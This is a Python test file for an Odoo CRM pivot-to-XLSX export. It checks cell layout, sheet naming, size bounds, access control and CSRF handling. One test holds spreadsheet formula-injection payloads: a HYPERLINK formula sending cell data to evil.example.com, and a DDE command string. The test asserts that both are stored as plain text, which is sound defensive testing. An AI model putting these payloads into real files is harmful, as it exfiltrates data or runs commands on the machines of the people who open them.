import io
import json
import zipfile
from xml.etree import ElementTree

from odoo.exceptions import UserError

from ..controllers import pivot
from ..controllers.pivot import write_pivot_table
from .common import CrmExtendedCase, PortalHttpCase

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# What the web client sends for a pivot of revenue and margin by customer group (rows) and
# month (columns): the month header spans two measures, the closing total column spans the
# two header rows.
TABLE = {
    "title": "Customer Profitability",
    "nbr_measures": 2,
    "headers": [
        [{"title": "Total", "width": 4, "height": 1, "expanded": True},
         {"title": "Total", "width": 2, "height": 2}],
        [{"title": "January 2026", "width": 2, "height": 1},
         {"title": "February 2026", "width": 2, "height": 1}],
    ],
    "measure_row": [{"measure": name, "is_bold": index >= 4}
                    for index, name in enumerate(["Revenue", "Margin"] * 3)],
    "rows": [
        {"title": "Total", "indent": 0, "values": [
            {"value": value, "is_bold": True}
            for value in (600.0, 240.0, 80.0, 50.0, 680.0, 290.0)]},
        {"title": "Key Accounts", "indent": 1, "values": [
            {"value": value, "is_bold": False} for value in (600.0, 240.0, "", "", 600.0, 240.0)]},
    ],
}


def read_xlsx(content):
    """({cell reference: value}, [merged ranges]) of the workbook's first sheet; a formula
    reads as ("formula", its text)."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        strings = [item.findtext(SHEET + "t") for item in
                   ElementTree.fromstring(book.read("xl/sharedStrings.xml")).iter(SHEET + "si")]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for cell in sheet.iter(SHEET + "c"):
        if cell.find(SHEET + "f") is not None:
            cells[cell.get("r")] = ("formula", cell.findtext(SHEET + "f"))
    for cell in sheet.iter(SHEET + "c"):
        value = cell.findtext(SHEET + "v")
        if value is not None and cell.get("r") not in cells:
            cells[cell.get("r")] = strings[int(value)] if cell.get("t") == "s" else float(value)
    return cells, [merged.get("ref") for merged in sheet.iter(SHEET + "mergeCell")]


class TestPivotXlsxLayout(CrmExtendedCase):

    def test_headers_measures_and_rows_land_in_their_cells(self):
        stream = io.BytesIO()
        write_pivot_table(TABLE, stream)
        cells, merged = read_xlsx(stream.getvalue())
        self.assertEqual(sorted(merged), ["B1:E1", "B2:C2", "D2:E2", "F1:G2"])
        self.assertEqual((cells["B1"], cells["F1"]), ("Total", "Total"))
        # the second header row skips the columns of the total spanning both rows
        self.assertEqual((cells["B2"], cells["D2"]), ("January 2026", "February 2026"))
        self.assertNotIn("F2", cells)
        self.assertEqual([cells[col + "3"] for col in "BCDEFG"], ["Revenue", "Margin"] * 3)
        self.assertEqual(cells["A4"], "Total")
        self.assertEqual([cells[col + "4"] for col in "BCDEFG"],
                         [600.0, 240.0, 80.0, 50.0, 680.0, 290.0])
        self.assertEqual(cells["A5"].strip(), "Key Accounts")
        self.assertEqual((cells["B5"], cells["G5"]), (600.0, 240.0))

    def test_a_title_excel_refuses_still_names_the_sheet(self):
        stream = io.BytesIO()
        write_pivot_table(dict(TABLE, title="Margin [2026] / by group: A*B? a long report name"),
                          stream)
        with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as book:
            workbook = ElementTree.fromstring(book.read("xl/workbook.xml"))
        name = next(workbook.iter(SHEET + "sheet")).get("name")
        self.assertTrue(name.startswith("Margin"))
        self.assertLessEqual(len(name), 31)
        self.assertFalse(set(name) & set("[]:*?/\\"))

    def test_text_is_never_a_formula(self):
        """A customer named "=HYPERLINK(...)" lands in a header and a row title; a text
        value too: all stay text in the staff member's spreadsheet."""
        payload = '=HYPERLINK("http://evil.example.com/?"&A1,"Click")'
        table = json.loads(json.dumps(TABLE))
        table["headers"][1][0]["title"] = payload
        table["rows"][1]["title"] = "=1+1"
        table["rows"][1]["values"][2]["value"] = "@SUM(1+1)*cmd|' /C calc'!A0"
        stream = io.BytesIO()
        write_pivot_table(table, stream)
        cells, _merged = read_xlsx(stream.getvalue())
        self.assertEqual(cells["B2"], payload)
        self.assertEqual(cells["A5"].strip(), "=1+1")
        self.assertEqual(cells["D5"], "@SUM(1+1)*cmd|' /C calc'!A0")
        self.assertFalse([cell for cell in cells.values() if isinstance(cell, tuple)])

    def test_sizes_beyond_the_bounds_are_refused(self):
        """Every size the client sends drives a loop: each one past its bound is refused
        before anything is written."""
        too_wide = json.loads(json.dumps(TABLE))
        too_wide["headers"][0][0]["width"] = pivot.PIVOT_MAX_COLUMNS + 1
        too_high = json.loads(json.dumps(TABLE))
        too_high["headers"][0][0]["height"] = 10 ** 9
        too_deep = dict(TABLE, headers=[[{"title": "x", "width": 1, "height": 1}]]
                        * (pivot.PIVOT_MAX_HEADER_ROWS + 1))
        too_many_rows = dict(TABLE, rows=[{"title": "r", "indent": 0, "values": []}]
                             * (pivot.PIVOT_MAX_ROWS + 1))
        too_indented = dict(TABLE, rows=[{"title": "r", "indent": 10 ** 9, "values": []}])
        too_many_measures = dict(TABLE, measure_row=[{"measure": "m", "is_bold": False}]
                                 * pivot.PIVOT_MAX_COLUMNS)
        negative = json.loads(json.dumps(TABLE))
        negative["headers"][1][0]["width"] = -5
        for table in (too_wide, too_high, too_deep, too_many_rows, too_indented,
                      too_many_measures, negative):
            stream = io.BytesIO()
            with self.assertRaises(UserError):
                write_pivot_table(table, stream)
            self.assertEqual(stream.getvalue(), b"")


class TestPivotXlsxDownload(PortalHttpCase):

    def test_the_pivot_downloads_as_xlsx(self):
        self.user_manager.password = "crmx_manager"
        self.authenticate("crmx_manager", "crmx_manager")
        response = self.url_open("/web/pivot/export_xlsx", data={
            "data": json.dumps(TABLE), "token": "42", "csrf_token": self.csrf_token()})
        self.assertEqual(response.status_code, 200)
        disposition = response.headers["Content-Disposition"]
        self.assertIn("Customer", disposition)
        self.assertTrue(disposition.endswith(".xlsx"), disposition)
        self.assertEqual(response.cookies.get("fileToken"), "42")
        cells, _merged = read_xlsx(response.content)
        self.assertEqual(cells["G4"], 290.0)

    def test_only_for_users_logged_in(self):
        response = self.url_open("/web/pivot/export_xlsx", data={"data": "{}", "token": "1"},
                                 allow_redirects=False)
        self.assertEqual(response.status_code, 302)
        self.assertIn("/web/login", response.headers["Location"])

    def test_portal_users_are_refused(self):
        """A portal session posting a valid form with its own CSRF token gets no file."""
        self.authenticate("crmx_portal", "crmx_portal")
        response = self.url_open("/web/pivot/export_xlsx", data={
            "data": json.dumps(TABLE), "token": "42", "csrf_token": self.csrf_token()})
        self.assertEqual(response.status_code, 403)
        self.assertNotIn(b"PK", response.content[:2])
        self.assertNotIn("fileToken", response.cookies)

    def test_post_with_csrf_only(self):
        """A link or a foreign site's form cannot make a logged-in employee's browser
        download (and thereby export) a table: GET and a POST without the token fail."""
        self.user_manager.password = "crmx_manager"
        self.authenticate("crmx_manager", "crmx_manager")
        response = self.url_open("/web/pivot/export_xlsx?data=%s&token=1"
                                 % json.dumps(TABLE), allow_redirects=False)
        self.assertEqual(response.status_code, 405)
        response = self.url_open("/web/pivot/export_xlsx", data={
            "data": json.dumps(TABLE), "token": "1"}, allow_redirects=False)
        self.assertEqual(response.status_code, 400)
        self.assertNotIn("fileToken", response.cookies)

    def test_refusal_is_shown_to_the_user(self):
        """A table beyond the bounds answers 400 with the reason, as the client's download
        shows errors, and no file."""
        self.user_manager.password = "crmx_manager"
        self.authenticate("crmx_manager", "crmx_manager")
        table = dict(TABLE, rows=[{"title": "r", "indent": 0, "values": []}]
                     * (pivot.PIVOT_MAX_ROWS + 1))
        response = self.url_open("/web/pivot/export_xlsx", data={
            "data": json.dumps(table), "token": "1", "csrf_token": self.csrf_token()})
        self.assertEqual(response.status_code, 400)
        self.assertIn("too many rows", response.text)
        self.assertNotIn("fileToken", response.cookies)
        response = self.url_open("/web/pivot/export_xlsx", data={
            "data": "not json", "token": "1", "csrf_token": self.csrf_token()})
        self.assertEqual(response.status_code, 400)
        self.assertIn("not readable", response.text)
